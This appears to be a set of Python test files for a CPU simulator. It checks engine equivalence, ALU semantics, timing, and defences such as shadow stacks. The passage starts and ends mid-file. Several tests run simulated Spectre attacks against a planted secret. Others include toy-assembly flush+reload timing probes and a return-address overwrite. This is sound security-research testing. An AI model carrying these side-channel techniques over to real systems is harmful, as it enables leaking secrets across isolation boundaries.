        # Filtered down to cpu-only: counters still collected, spans
        # suppressed — the cheap/chatty split the categories exist for.
        _, filtered = self._traced(SPEC_LOOP, categories=("cpu",))
        assert not [r for r in filtered.records
                    if r["cat"].startswith("ooo.")]
        counters = filtered.metrics.snapshot()["counters"]
        assert counters["ooo.squashes"] > 0

    def test_dispatch_stalls_counted_when_rob_saturates(self):
        _, tracer = self._traced(SPEC_LOOP,
                                 uarch_params=OooParams(rob_depth=2))
        counters = tracer.metrics.snapshot()["counters"]
        assert counters.get("ooo.dispatch_stalls", 0) > 0
        stalls = [r for r in tracer.records
                  if r["name"] == "ooo.dispatch.stall"]
        assert stalls
        assert all(r["args"]["rob"] >= 2 for r in stalls)

    def test_untraced_run_is_bitwise_unchanged(self):
        plain = _run_ooo(SPEC_LOOP)
        traced, _ = self._traced(SPEC_LOOP)
        assert traced.cpu.cycles == plain.cpu.cycles
        assert traced.cpu.pmu.read() == plain.cpu.pmu.read()
        assert plain.cpu._metrics is None


class TestSpecCountersMatchInOrder:
    def test_squash_accounting_identical_semantics(self):
        """Both cores account the same speculation events for the same
        program; the *counts* may differ (window shape differs), but the
        squash invariant holds on each."""
        reference = run_source(SPEC_LOOP, target_data=SECRET).pmu.read()
        ooo = _run_ooo(SPEC_LOOP).pmu.read()
        for snap in (reference, ooo):
            assert snap["spec_instructions"] > 0
            assert snap["squashed_instructions"] == \
                snap["spec_instructions"]
