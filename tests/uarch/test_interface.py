"""The CpuCore interface and the microarchitecture registry."""

import pytest

from repro.cpu.cpu import Cpu
from repro.kernel import System
from repro.mem import Memory
from repro.uarch import (
    DEFAULT_UARCH,
    CpuCore,
    OooCore,
    OooParams,
    UARCHS,
    make_core,
    register_uarch,
)


def _memory():
    return Memory()


class TestRegistry:
    def test_both_cores_registered(self):
        assert set(UARCHS) >= {"inorder", "ooo"}
        assert DEFAULT_UARCH == "inorder"

    def test_unknown_name_is_an_error(self):
        with pytest.raises(ValueError, match="unknown microarchitecture"):
            make_core("nope", _memory())

    def test_unknown_name_lists_known_ones(self):
        with pytest.raises(ValueError, match="inorder"):
            make_core("nope", _memory())

    def test_duplicate_registration_rejected(self):
        with pytest.raises(ValueError, match="already registered"):
            register_uarch("inorder", Cpu)


class TestMakeCore:
    def test_inorder_is_the_unmodified_cpu(self):
        core = make_core("inorder", _memory())
        assert type(core) is Cpu
        assert isinstance(core, CpuCore)

    def test_ooo_core(self):
        core = make_core("ooo", _memory())
        assert type(core) is OooCore
        assert isinstance(core, CpuCore)

    def test_inorder_rejects_uarch_params(self):
        with pytest.raises(ValueError, match="no uarch params"):
            make_core("inorder", _memory(), params=OooParams())

    def test_ooo_takes_params(self):
        core = make_core("ooo", _memory(), params=OooParams(rob_depth=4))
        assert core.params.rob_depth == 4
        assert core.rob.depth == 4

    def test_common_attribute_surface(self):
        """Every attribute the kernel/scenario layers touch exists on
        both cores — the contract documented on CpuCore."""
        for name in ("inorder", "ooo"):
            core = make_core(name, _memory())
            for attribute in ("memory", "caches", "predictor", "config",
                              "state", "dtlb", "itlb", "pmu", "cycles",
                              "shadow_stack", "kernel_mode",
                              "syscall_handler", "watchdog"):
                assert hasattr(core, attribute), (name, attribute)


class TestSystemPlumbing:
    def _spawn(self, **system_kwargs):
        from repro.workloads import get_workload

        system = System(seed=1, **system_kwargs)
        system.install_binary(
            "/bin/w", get_workload("basicmath").build(iterations=1)
        )
        return system.spawn("/bin/w")

    def test_default_system_spawns_inorder(self):
        assert type(self._spawn().cpu) is Cpu

    def test_uarch_knob_spawns_ooo(self):
        assert type(self._spawn(uarch="ooo").cpu) is OooCore

    def test_uarch_params_reach_the_core(self):
        process = self._spawn(uarch="ooo",
                              uarch_params=OooParams(rob_depth=2))
        assert process.cpu.rob.depth == 2
