"""Architectural-state helper tests."""

from hypothesis import given, strategies as st

from repro.cpu.state import CpuState, to_signed, to_unsigned


class TestConversions:
    @given(st.integers(min_value=0, max_value=0xFFFFFFFF))
    def test_signed_unsigned_roundtrip(self, value):
        assert to_unsigned(to_signed(value)) == value

    @given(st.integers(min_value=-(2**31), max_value=2**31 - 1))
    def test_unsigned_signed_roundtrip(self, value):
        assert to_signed(to_unsigned(value)) == value

    def test_boundaries(self):
        assert to_signed(0x7FFFFFFF) == 2**31 - 1
        assert to_signed(0x80000000) == -(2**31)
        assert to_signed(0xFFFFFFFF) == -1
        assert to_unsigned(-1) == 0xFFFFFFFF

    @given(st.integers())
    def test_to_unsigned_always_in_range(self, value):
        assert 0 <= to_unsigned(value) <= 0xFFFFFFFF


class TestCpuState:
    def test_zero_register(self):
        state = CpuState()
        state.write_reg(0, 99)
        assert state.read_reg(0) == 0

    def test_writes_wrap_32_bits(self):
        state = CpuState()
        state.write_reg(5, 0x1_2345_6789)
        assert state.read_reg(5) == 0x2345_6789

    def test_sp_property(self):
        state = CpuState()
        state.sp = 0x7FFF0000
        assert state.sp == 0x7FFF0000
        assert state.regs[13] == 0x7FFF0000

    def test_copy_regs_is_a_snapshot(self):
        state = CpuState()
        state.write_reg(3, 7)
        snapshot = state.copy_regs()
        state.write_reg(3, 8)
        assert snapshot[3] == 7

    def test_dump_readable(self):
        state = CpuState()
        state.pc = 0x400000
        text = state.dump()
        assert "sp" in text
        assert "0x00400000" in text
