"""The superblock translation engine vs ``step()``, bit for bit.

The ``sb`` engine compiles hot decoded runs into Python closures and
dispatches them from a per-PC cache (:mod:`repro.cpu.superblock`).
These tests pin the two contracts that make that safe:

* **Equivalence** — a superblock run leaves *identical* observable
  state to the step reference (registers, pc, virtual cycles, all PMU
  events, cache/TLB counters, process output) across every Spectre
  variant, chunked pause/resume boundaries, watchdog trips, and traced
  runs, on both microarchitectures.
* **Invalidation** — self-modifying stores and ``clflush`` into code
  drop resident superblocks before any stale closure can execute; the
  refilled blocks are compiled from the *new* bytes.
"""

import pytest

from repro.attack import SpectreConfig, build_spectre
from repro.core.resilience.watchdog import Watchdog
from repro.cpu import engine_override
from repro.errors import BudgetExceededError
from repro.kernel import System, build_binary
from repro.mem.memory import PERM_W
from repro.obs.tracer import TraceConfig, Tracer, activate

SECRET = b"SB!"

VARIANTS = ("v1", "btb", "rsb", "sbo")

#: Branchy enough to mispredict, hot enough to translate.
_HOT_LOOP = """
main:
    li   t0, 0
    li   s0, 7
    li   s1, 0
loop:
    slti t1, t0, 400
    beq  t1, zero, done
    muli s0, s0, 1103515245
    addi s0, s0, 12345
    andi t2, s0, 7
    beq  t2, zero, skip
    add  s1, s1, t2
    jmp  next
skip:
    addi s1, s1, 1
next:
    addi t0, t0, 1
    jmp  loop
done:
    andi a0, s1, 0xFF
    call libc_exit
"""

#: Runs a hot inner loop, then overwrites one of its instructions (the
#: word at ``patch_me``) with the ``donor`` encoding and runs it again.
#: A stale superblock executing even one post-write iteration changes
#: the accumulator, so the exit code convicts it.
_SELF_MODIFYING = """
main:
    li   s0, 0          ; acc
    li   s1, 0          ; outer trip count
outer:
    li   t0, 40         ; inner loop: hot, gets translated
inner:
    addi t0, t0, -1
patch_me:
    addi s0, s0, 1      ; overwritten with "addi s0, s0, 5"
    bne  t0, zero, inner
    addi s1, s1, 1
    slti t1, s1, 2
    beq  t1, zero, done
    la   t2, donor
    lw   t3, 4(t2)      ; the imm word of the 8-byte encoding
    la   a2, patch_me
    sw   t3, 4(a2)      ; SMC: lands in an executable segment
    jmp  outer
done:
    andi a0, s0, 0xFF   ; 40*1 + 40*5 = 240
    call libc_exit
donor:
    addi s0, s0, 5      ; never executed, only copied
"""

#: Same hot loop shape, but the mid-loop disturbance is a ``clflush``
#: of the loop's own code line — architecturally a no-op, yet it must
#: drop the resident superblock (translation caches track the I-cache).
_CODE_CLFLUSH = """
main:
    li   s0, 0
    li   s1, 0
outer:
    li   t0, 40
inner:
    addi t0, t0, -1
    addi s0, s0, 1
    bne  t0, zero, inner
    addi s1, s1, 1
    slti t1, s1, 3
    beq  t1, zero, done
    la   t2, inner
    clflush 0(t2)
    jmp  outer
done:
    andi a0, s0, 0xFF   ; 3*40 = 120
    call libc_exit
"""


def _spawn(source=None, program=None, seed=9, target_data=None,
           uarch="inorder"):
    system = System(seed=seed, target_data=target_data, uarch=uarch)
    program = program or build_binary("testprog", source)
    system.install_binary("/bin/testprog", program)
    return system.spawn("/bin/testprog")


def _snapshot(process):
    cpu = process.cpu
    return {
        "regs": list(cpu.state.regs),
        "pc": cpu.state.pc,
        "halted": cpu.state.halted,
        "exit_code": cpu.state.exit_code,
        "cycles": cpu.cycles,
        "events": cpu.pmu.read(),
        "stdout": bytes(process.stdout),
    }


def _allow_smc(process):
    """Drop W^X on the text segment (the loader maps it R-X).

    The self-modifying tests need the store itself to execute on the
    modelled CPU so the code-write listener path is what invalidates —
    not a host-side patch.
    """
    process.cpu.memory.segment_by_name("text").perms |= PERM_W


def _run_to_halt(process):
    while not process.cpu.state.halted:
        process.cpu.run()
    return _snapshot(process)


class TestSuperblockVariantParity:
    """run() under ``sb`` ≡ run() under ``step``, all four variants."""

    @pytest.mark.parametrize("variant", VARIANTS)
    def test_attack_identical_state_inorder(self, variant):
        program = build_spectre(
            variant, SpectreConfig(secret_length=len(SECRET), repeats=1)
        )
        with engine_override("sb"):
            sb = _spawn(program=program, target_data=SECRET)
            sb.cpu.run()
        with engine_override("step"):
            reference = _spawn(program=program, target_data=SECRET)
            reference.cpu.run()
        assert _snapshot(sb) == _snapshot(reference)

    @pytest.mark.parametrize("variant", VARIANTS)
    def test_attack_identical_state_ooo(self, variant):
        # The Tomasulo core ignores the engine knob entirely; ``sb``
        # mode must be transparent (same contract, same state).
        program = build_spectre(
            variant, SpectreConfig(secret_length=len(SECRET), repeats=1)
        )
        with engine_override("sb"):
            sb = _spawn(program=program, target_data=SECRET, uarch="ooo")
            snap_sb = _run_to_halt(sb)
        with engine_override("step"):
            reference = _spawn(program=program, target_data=SECRET,
                               uarch="ooo")
            snap_ref = _run_to_halt(reference)
        assert snap_sb == snap_ref

    def test_blocks_actually_ran(self):
        # Guard against the parity tests passing vacuously because
        # translation never kicked in.
        with engine_override("sb"):
            process = _spawn(_HOT_LOOP)
            process.cpu.run()
        engine = process.cpu._sb
        assert engine is not None
        assert engine.stats["translated"] > 0
        assert engine.stats["instructions_translated"] > 0


class TestSuperblockTracedParity:
    def test_cpu_tracing_forces_step_parity(self):
        # A cpu-category tracer pushes run() onto the traced step loop;
        # the engine knob must not perturb state or the trace itself.
        records = {}
        for mode in ("sb", "step"):
            tracer = Tracer(TraceConfig(categories=("cpu", "kernel")))
            with engine_override(mode), activate(tracer):
                process = _spawn(_HOT_LOOP)
                process.cpu.run()
            records[mode] = (_snapshot(process), tracer.records)
        assert records["sb"] == records["step"]

    def test_cache_tracing_forces_step_parity(self):
        # A bound cache channel also pushes run() onto the traced step
        # loop (superblocks never engage — their batched counter
        # updates cannot emit per-access records), and the cache trace
        # must be identical across engine modes.
        results = {}
        for mode in ("sb", "step"):
            tracer = Tracer(TraceConfig(categories=("cache",)))
            with engine_override(mode), activate(tracer):
                process = _spawn(_HOT_LOOP)
                process.cpu.run()
            results[mode] = (_snapshot(process), tracer.records)
            if mode == "sb":
                assert process.cpu._sb is None
        assert results["sb"] == results["step"]


class TestSuperblockPauseAndBudget:
    def test_chunked_pauses_deoptimize_at_same_points(self):
        # Blocks never straddle a chunk boundary: when the remaining
        # budget is smaller than a resident block, run() single-steps.
        with engine_override("sb"):
            sb = _spawn(_HOT_LOOP)
        with engine_override("step"):
            reference = _spawn(_HOT_LOOP)
        for chunk in (1, 7, 193, 1000, 50_000):
            sb.cpu.run(max_instructions=chunk)
            reference.cpu.run(max_instructions=chunk)
            assert _snapshot(sb) == _snapshot(reference)

    def test_watchdog_trip_leaves_synced_state(self):
        with engine_override("sb"):
            sb = _spawn(_HOT_LOOP)
        with engine_override("step"):
            reference = _spawn(_HOT_LOOP)
        sb.cpu.watchdog = Watchdog(2048, label="sb")
        reference.cpu.watchdog = Watchdog(2048, label="ref")
        with pytest.raises(BudgetExceededError):
            sb.cpu.run()
        with pytest.raises(BudgetExceededError):
            reference.cpu.run()
        assert _snapshot(sb) == _snapshot(reference)


class TestSuperblockInvalidation:
    """Satellite 2: flush→refill under SMC and clflush-into-code."""

    def test_self_modifying_store_never_runs_stale_closure(self):
        with engine_override("sb"):
            process = _spawn(_SELF_MODIFYING)
            _allow_smc(process)
            process.run_to_completion()
        engine = process.cpu._sb
        # The inner loop really was compiled before the store landed...
        assert engine.stats["translated"] > 0
        assert engine.stats["code_writes"] == 1
        assert engine.stats["invalidations"] >= 1
        assert engine.gen >= 1
        # ...and no stale closure executed a pre-patch iteration: the
        # second pass of 40 iterations ran the *new* instruction.
        assert process.exit_code == 240

    def test_self_modifying_store_matches_step_reference(self):
        with engine_override("sb"):
            sb = _spawn(_SELF_MODIFYING)
            _allow_smc(sb)
            sb.cpu.run()
        with engine_override("step"):
            reference = _spawn(_SELF_MODIFYING)
            _allow_smc(reference)
            reference.cpu.run()
        assert _snapshot(sb) == _snapshot(reference)

    def test_clflush_into_code_drops_and_refills_blocks(self):
        with engine_override("sb"):
            process = _spawn(_CODE_CLFLUSH)
            process.run_to_completion()
        engine = process.cpu._sb
        # Flushed at least once mid-run, then re-translated from the
        # (unchanged) bytes: translations outnumber a single warm-up.
        assert engine.stats["invalidations"] >= 2
        assert engine.stats["translated"] >= 2
        assert process.exit_code == 120

    def test_clflush_into_code_matches_step_reference(self):
        with engine_override("sb"):
            sb = _spawn(_CODE_CLFLUSH)
            sb.cpu.run()
        with engine_override("step"):
            reference = _spawn(_CODE_CLFLUSH)
            reference.cpu.run()
        assert _snapshot(sb) == _snapshot(reference)

    def test_execve_flushes_resident_blocks(self):
        system = System(seed=3)
        caller = build_binary("caller", """
        main:
            li   t0, 200
        warm:
            addi t0, t0, -1
            bne  t0, zero, warm
            la   a0, path
            li   a1, 0
            call libc_execve
            li   a0, 1
            call libc_exit
        .data
        path: .asciiz "/bin/other"
        """)
        other = build_binary("other", """
        main:
            li a0, 42
            call libc_exit
        """)
        system.install_binary("/bin/caller", caller)
        system.install_binary("/bin/other", other)
        with engine_override("sb"):
            process = system.spawn("/bin/caller")
            process.run_to_completion()
        assert process.exit_code == 42
        engine = process.cpu._sb
        assert engine.stats["translated"] > 0
        assert engine.stats["invalidations"] >= 1
