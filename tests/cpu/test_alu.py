"""ALU semantics: hypothesis properties against Python reference math."""

from hypothesis import given, strategies as st

from repro.cpu.cpu import _alu_rri, _alu_rrr, _branch_taken
from repro.cpu.state import to_signed
from repro.isa.opcodes import Opcode

u32 = st.integers(min_value=0, max_value=0xFFFFFFFF)
imm32 = st.integers(min_value=-(2**31), max_value=2**31 - 1)


class TestRrrSemantics:
    @given(u32, u32)
    def test_add_wraps(self, a, b):
        assert _alu_rrr(Opcode.ADD, a, b) == (a + b) & 0xFFFFFFFF

    @given(u32, u32)
    def test_sub_wraps(self, a, b):
        assert _alu_rrr(Opcode.SUB, a, b) == (a - b) & 0xFFFFFFFF

    @given(u32, u32)
    def test_mul_wraps(self, a, b):
        assert _alu_rrr(Opcode.MUL, a, b) == (a * b) & 0xFFFFFFFF

    @given(u32, u32)
    def test_logic_ops(self, a, b):
        assert _alu_rrr(Opcode.AND, a, b) == a & b
        assert _alu_rrr(Opcode.OR, a, b) == a | b
        assert _alu_rrr(Opcode.XOR, a, b) == a ^ b

    @given(u32, u32)
    def test_shifts_use_low_5_bits(self, a, b):
        shift = b & 31
        assert _alu_rrr(Opcode.SHL, a, b) == (a << shift) & 0xFFFFFFFF
        assert _alu_rrr(Opcode.SHR, a, b) == a >> shift
        assert _alu_rrr(Opcode.SRA, a, b) == \
            (to_signed(a) >> shift) & 0xFFFFFFFF

    @given(u32, u32)
    def test_div_truncates_toward_zero(self, a, b):
        result = _alu_rrr(Opcode.DIV, a, b)
        if b == 0:
            assert result == 0xFFFFFFFF
        else:
            sa, sb = to_signed(a), to_signed(b)
            expected = abs(sa) // abs(sb)
            if (sa < 0) != (sb < 0):
                expected = -expected
            assert result == expected & 0xFFFFFFFF

    @given(u32, u32)
    def test_mod_identity(self, a, b):
        """C identity: a == (a/b)*b + a%b (32-bit, truncating)."""
        if b == 0:
            assert _alu_rrr(Opcode.MOD, a, b) == a
            return
        q = to_signed(_alu_rrr(Opcode.DIV, a, b))
        r = to_signed(_alu_rrr(Opcode.MOD, a, b))
        assert (q * to_signed(b) + r) & 0xFFFFFFFF == a

    @given(u32, u32)
    def test_comparisons(self, a, b):
        assert _alu_rrr(Opcode.SLT, a, b) == \
            (1 if to_signed(a) < to_signed(b) else 0)
        assert _alu_rrr(Opcode.SLTU, a, b) == (1 if a < b else 0)


class TestRriSemantics:
    @given(u32, imm32)
    def test_addi(self, a, imm):
        assert _alu_rri(Opcode.ADDI, a, imm) == (a + imm) & 0xFFFFFFFF

    @given(u32, imm32)
    def test_logic_imm_masks(self, a, imm):
        masked = imm & 0xFFFFFFFF
        assert _alu_rri(Opcode.ANDI, a, imm) == a & masked
        assert _alu_rri(Opcode.ORI, a, imm) == a | masked
        assert _alu_rri(Opcode.XORI, a, imm) == a ^ masked

    @given(u32, st.integers(min_value=0, max_value=31))
    def test_shift_immediates(self, a, shift):
        assert _alu_rri(Opcode.SHLI, a, shift) == (a << shift) & 0xFFFFFFFF
        assert _alu_rri(Opcode.SHRI, a, shift) == a >> shift

    @given(u32, imm32)
    def test_slti(self, a, imm):
        assert _alu_rri(Opcode.SLTI, a, imm) == \
            (1 if to_signed(a) < imm else 0)


class TestBranchSemantics:
    @given(u32, u32)
    def test_eq_ne_complementary(self, a, b):
        assert _branch_taken(Opcode.BEQ, a, b) != \
            _branch_taken(Opcode.BNE, a, b)

    @given(u32, u32)
    def test_lt_ge_complementary_signed(self, a, b):
        assert _branch_taken(Opcode.BLT, a, b) != \
            _branch_taken(Opcode.BGE, a, b)

    @given(u32, u32)
    def test_unsigned_comparisons(self, a, b):
        assert _branch_taken(Opcode.BLTU, a, b) == (a < b)
        assert _branch_taken(Opcode.BGEU, a, b) == (a >= b)

    def test_signedness_differs(self):
        # 0xFFFFFFFF is -1 signed but UINT_MAX unsigned
        assert _branch_taken(Opcode.BLT, 0xFFFFFFFF, 0) is True
        assert _branch_taken(Opcode.BLTU, 0xFFFFFFFF, 0) is False
