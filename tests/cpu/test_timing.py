"""Timing-model tests: the cycle costs the covert channel measures.

Measured blocks are wrapped in a function executed twice — the first
call warms the I-cache so the second measures steady-state throughput.
"""

from repro.cpu import CpuConfig
from repro.kernel import System, build_binary
from tests.conftest import run_source


def _measured(body):
    """Program that times the second (warm) execution of *body*."""
    return f"""
main:
    call work              ; warm the I-cache
    rdcycle s0
    call work
    rdcycle s1
    sub  a0, s1, s0
    call libc_exit
work:
{body}
    ret
"""


def _warm_cycles(body, cpu_config=None):
    source = _measured(body)
    if cpu_config is None:
        return run_source(source).exit_code
    system = System(seed=9, cpu_config=cpu_config)
    system.install_binary("/bin/t", build_binary("t", source))
    process = system.spawn("/bin/t")
    process.run_to_completion()
    return process.exit_code


class TestIssueWidth:
    def test_alu_throughput(self):
        """100 ALU ops on a warm 4-wide core cost ~25-45 cycles."""
        body = "\n".join("    addi t0, t0, 1" for _ in range(100))
        cycles = _warm_cycles(body)
        assert 20 <= cycles <= 60, cycles

    def test_width_one_is_slower(self):
        body = "\n".join("    addi t0, t0, 1" for _ in range(100))
        wide = _warm_cycles(body)
        narrow = _warm_cycles(body, CpuConfig(issue_width=1))
        assert narrow > wide * 2


class TestMemoryLatency:
    def test_miss_vs_hit_gap(self):
        """The flush+reload discrimination window must be wide."""
        process = run_source("""
        main:
            la   t0, cell
            lw   t1, 0(t0)        ; warm
            mfence
            rdcycle t2
            lw   t1, 0(t0)        ; hit
            rdcycle t3
            sub  s0, t3, t2       ; hit latency
            clflush 0(t0)
            mfence
            rdcycle t2
            lw   t1, 0(t0)        ; miss to memory
            rdcycle t3
            sub  s1, t3, t2       ; miss latency
            sub  a0, s1, s0
            call libc_exit
        .data
            .align 6
        cell: .word 7
        """)
        assert process.exit_code > 100  # gap >> any threshold jitter

    def test_l2_hit_cheaper_than_memory(self):
        from repro.cache.hierarchy import CacheConfig

        system = System(seed=9, cache_config=CacheConfig())
        system.install_binary("/bin/t", build_binary("t", """
        main:
            ; warm 'cell' into L2 but push it out of L1 by streaming
            la   t0, cell
            lw   t1, 0(t0)
            la   t2, evict
            li   t3, 1024          ; 64 KiB / 64 = enough to evict L1
        stream:
            beq  t3, zero, probe
            lw   a3, 0(t2)
            addi t2, t2, 64
            addi t3, t3, -1
            jmp  stream
        probe:
            mfence
            rdcycle t2
            lw   t1, 0(t0)
            rdcycle t3
            sub  a0, t3, t2
            call libc_exit
        .data
            .align 6
        cell: .word 7
        evict: .space 65600
        """))
        process = system.spawn("/bin/t")
        process.run_to_completion()
        # L2 hit: a dozen-ish cycles, far below the ~190-cycle miss.
        assert 2 < process.exit_code < 60


class TestBranchCosts:
    def test_alternating_pattern_costs_more(self):
        predictable = _warm_cycles("""
    li t0, 0
p_loop:
    slti t1, t0, 100
    beq  t1, zero, p_done
    addi t0, t0, 1
    jmp  p_loop
p_done:
    nop""")
        alternating = _warm_cycles("""
    li t0, 0
a_loop:
    slti t1, t0, 100
    beq  t1, zero, a_done
    andi t2, t0, 1
    beq  t2, zero, a_even
    nop
a_even:
    addi t0, t0, 1
    jmp  a_loop
a_done:
    nop""")
        assert alternating > predictable

    def test_penalty_knob(self):
        body = """
    li t0, 0
k_loop:
    slti t1, t0, 50
    beq  t1, zero, k_done
    andi t2, t0, 1
    beq  t2, zero, k_skip
    nop
k_skip:
    addi t0, t0, 1
    jmp  k_loop
k_done:
    nop"""
        cheap = _warm_cycles(body, CpuConfig(mispredict_penalty=2.0))
        costly = _warm_cycles(body, CpuConfig(mispredict_penalty=50.0))
        assert costly > cheap


class TestInstructionCosts:
    def test_div_slower_than_add(self):
        adds = _warm_cycles("    add t0, t1, t2\n" * 100)
        divs = _warm_cycles(
            "    li t1, 100\n    li t2, 7\n"
            + "    div t0, t1, t2\n" * 100
        )
        assert divs > adds * 3

    def test_fence_cost(self):
        nops = _warm_cycles("    nop\n" * 50)
        fences = _warm_cycles("    mfence\n" * 50)
        assert fences > nops * 5

    def test_fence_stalls_counted(self):
        process = run_source("main:\n    mfence\n    mfence\n    halt")
        assert process.pmu.read()["fence_stall_cycles"] > 0

    def test_clflush_has_latency(self):
        nops = _warm_cycles("    nop\n" * 50)
        body = "    la t3, main\n" + "    clflush 0(t3)\n" * 50
        flushes = _warm_cycles(body)
        assert flushes > nops * 3
