"""The run() fast loop vs the step() reference, bit for bit.

``Cpu.run`` keeps pc / cycles / fetch-locality / the register file in
locals and dispatches on int tuples; ``Cpu.step`` is the readable
single-instruction reference.  These tests pin that the two leave the
machine in *identical* observable state — registers, virtual cycles,
all 56 PMU events, cache and TLB counters, process output — across
branchy code, full Spectre attacks (mispredicts + wrong-path
speculation), syscalls, and the ``execve`` image swap that replaces the
register file and flushes the decode cache mid-run.
"""

import pytest

from repro.attack import SpectreConfig, build_spectre
from repro.core.resilience.watchdog import Watchdog
from repro.errors import BudgetExceededError
from repro.kernel import System, build_binary

SECRET = b"HW!"

_BRANCHY = """
main:
    li   t0, 0          ; i
    li   s0, 7          ; lcg state
    li   s1, 0          ; acc
loop:
    slti t1, t0, 300
    beq  t1, zero, done
    muli s0, s0, 1103515245
    addi s0, s0, 12345
    andi t2, s0, 7
    beq  t2, zero, skip  ; data-dependent branch: mispredicts
    add  s1, s1, t2
    jmp  next
skip:
    addi s1, s1, 1
next:
    addi t0, t0, 1
    jmp  loop
done:
    andi a0, s1, 0xFF
    call libc_exit
"""


def _spawn(source=None, program=None, seed=9, target_data=None):
    system = System(seed=seed, target_data=target_data)
    program = program or build_binary("testprog", source)
    system.install_binary("/bin/testprog", program)
    return system.spawn("/bin/testprog")


def _run_stepwise(cpu, max_instructions=5_000_000):
    executed = 0
    while not cpu.state.halted and executed < max_instructions:
        cpu.step()
        executed += 1
    return executed


def _snapshot(process):
    cpu = process.cpu
    return {
        "regs": list(cpu.state.regs),
        "pc": cpu.state.pc,
        "halted": cpu.state.halted,
        "exit_code": cpu.state.exit_code,
        "cycles": cpu.cycles,
        "events": cpu.pmu.read(),
        "stdout": bytes(process.stdout),
    }


class TestFastLoopEquivalence:
    def test_branchy_program_identical_state(self):
        fast = _spawn(_BRANCHY)
        reference = _spawn(_BRANCHY)
        fast.cpu.run()
        _run_stepwise(reference.cpu)
        assert _snapshot(fast) == _snapshot(reference)

    def test_spectre_attack_identical_state(self):
        # Mispredicts, wrong-path speculation, clflush, rdcycle, fences:
        # every cold path of the dispatch, under one real attack.
        program = build_spectre(
            "v1", SpectreConfig(secret_length=len(SECRET), repeats=1)
        )
        fast = _spawn(program=program, target_data=SECRET)
        reference = _spawn(program=program, target_data=SECRET)
        fast.cpu.run()
        _run_stepwise(reference.cpu)
        assert _snapshot(fast) == _snapshot(reference)

    def test_max_instructions_pauses_at_same_point(self):
        fast = _spawn(_BRANCHY)
        reference = _spawn(_BRANCHY)
        # Pause/resume in odd chunk sizes; the paused states must agree
        # chunk for chunk (this is what quantum scheduling does).
        for chunk in (1, 7, 193, 1000, 50_000):
            fast.cpu.run(max_instructions=chunk)
            _run_stepwise(reference.cpu, max_instructions=chunk)
            assert _snapshot(fast) == _snapshot(reference)

    def test_budget_exhaustion_leaves_synced_state(self):
        fast = _spawn(_BRANCHY)
        reference = _spawn(_BRANCHY)
        fast.cpu.watchdog = Watchdog(2048, label="fast")
        reference.cpu.watchdog = Watchdog(2048, label="ref")
        with pytest.raises(BudgetExceededError):
            fast.cpu.run()
        with pytest.raises(BudgetExceededError):
            reference.cpu._run_traced()
        assert _snapshot(fast) == _snapshot(reference)


class TestDecodeCacheAcrossExecve:
    """Decode entries are hit, flushed at execve, and refilled.

    Both images map at the same virtual addresses, so the swap rewrites
    the bytes *under* cached pcs — a stale decode entry (or a stale
    register-file alias inside the fast loop: execve installs a fresh
    regs list) shows up as the old image's behaviour leaking through.
    """

    def _system(self):
        system = System(seed=3)
        caller = build_binary("caller", """
        main:
            li   t0, 50         ; hot loop: decode entries hit repeatedly
        warm:
            addi t0, t0, -1
            bne  t0, zero, warm
            la   a0, path
            li   a1, 0
            call libc_execve
            li   a0, 1          ; only reached if execve failed
            call libc_exit
        .data
        path: .asciiz "/bin/other"
        """)
        other = build_binary("other", """
        main:
            li a0, 42
            call libc_exit
        """)
        system.install_binary("/bin/caller", caller)
        system.install_binary("/bin/other", other)
        return system

    def test_hit_flush_refill(self):
        process = self._system().spawn("/bin/caller")
        process.run_to_completion()
        assert process.exit_code == 42
        assert process.image_name == "other"
        # The refilled cache holds the new image's flat dispatch tuples.
        cache = process.cpu._decode_cache
        assert cache
        assert all(
            isinstance(entry, tuple) and len(entry) == 5
            and isinstance(entry[0], int)
            for entry in cache.values()
        )

    def test_execve_state_matches_stepwise_reference(self):
        fast = self._system().spawn("/bin/caller")
        reference = self._system().spawn("/bin/caller")
        fast.cpu.run()
        _run_stepwise(reference.cpu)
        assert _snapshot(fast) == _snapshot(reference)
