"""CPU-level countermeasure tests (paper Section IV)."""

import pytest

from repro.cpu import Cpu, CpuConfig
from repro.cpu.shadow_stack import ShadowStack
from repro.errors import PrivilegeFault, ShadowStackViolation
from repro.kernel import System, build_binary
from tests.conftest import SECRET


def _run_with(source, cpu_config):
    system = System(seed=5, cpu_config=cpu_config, target_data=SECRET)
    program = build_binary("cm", source)
    system.install_binary("/bin/cm", program)
    process = system.spawn("/bin/cm")
    process.run_to_completion()
    return process


class TestShadowStackUnit:
    def test_matched_return_passes(self):
        shadow = ShadowStack()
        shadow.on_call(0x400008)
        shadow.on_return(0x400008)

    def test_mismatch_raises(self):
        shadow = ShadowStack()
        shadow.on_call(0x400008)
        with pytest.raises(ShadowStackViolation):
            shadow.on_return(0xDEAD0000)
        assert shadow.violations_detected == 1

    def test_empty_stack_tolerated(self):
        ShadowStack().on_return(0x1234)  # unprotected depth: no check

    def test_bounded_depth_drops_oldest(self):
        shadow = ShadowStack(depth=2)
        shadow.on_call(1)
        shadow.on_call(2)
        shadow.on_call(3)
        shadow.on_return(3)
        shadow.on_return(2)
        shadow.on_return(0xBAD)  # frame 1's record was dropped: unchecked


class TestShadowStackIntegration:
    SMASH = """
    main:
        call f
        li   a0, 1
        call libc_exit
    f:
        la   t0, elsewhere
        sw   t0, 0(sp)      ; overwrite own return address
        ret
    elsewhere:
        li   a0, 2
        call libc_exit
    """

    def test_without_shadow_stack_redirect_succeeds(self):
        process = _run_with(self.SMASH, CpuConfig())
        assert process.exit_code == 2

    def test_with_shadow_stack_redirect_trapped(self):
        process = _run_with(self.SMASH, CpuConfig(shadow_stack=True))
        assert isinstance(process.fault, ShadowStackViolation)

    def test_honest_program_unaffected(self):
        process = _run_with("""
        main:
            li   a0, 4
            call f
            mov  a0, rv
            call libc_exit
        f:
            add rv, a0, a0
            ret
        """, CpuConfig(shadow_stack=True))
        assert process.exit_code == 8


class TestPrivilegedClflush:
    FLUSHER = """
    main:
        la t0, cell
        clflush 0(t0)
        li a0, 0
        call libc_exit
    .data
    cell: .word 0
    """

    def test_default_allows_clflush(self):
        process = _run_with(self.FLUSHER, CpuConfig())
        assert process.exit_code == 0

    def test_privileged_mode_blocks_user_clflush(self):
        process = _run_with(
            self.FLUSHER, CpuConfig(clflush_privileged=True)
        )
        assert isinstance(process.fault, PrivilegeFault)

    def test_kernel_mode_still_allowed(self):
        from repro.cache.hierarchy import CacheHierarchy
        from repro.mem.memory import Memory, PERM_R, PERM_W, PERM_X
        from repro.isa.encoding import encode_program
        from repro.isa.instruction import Instruction
        from repro.isa.opcodes import Opcode

        memory = Memory()
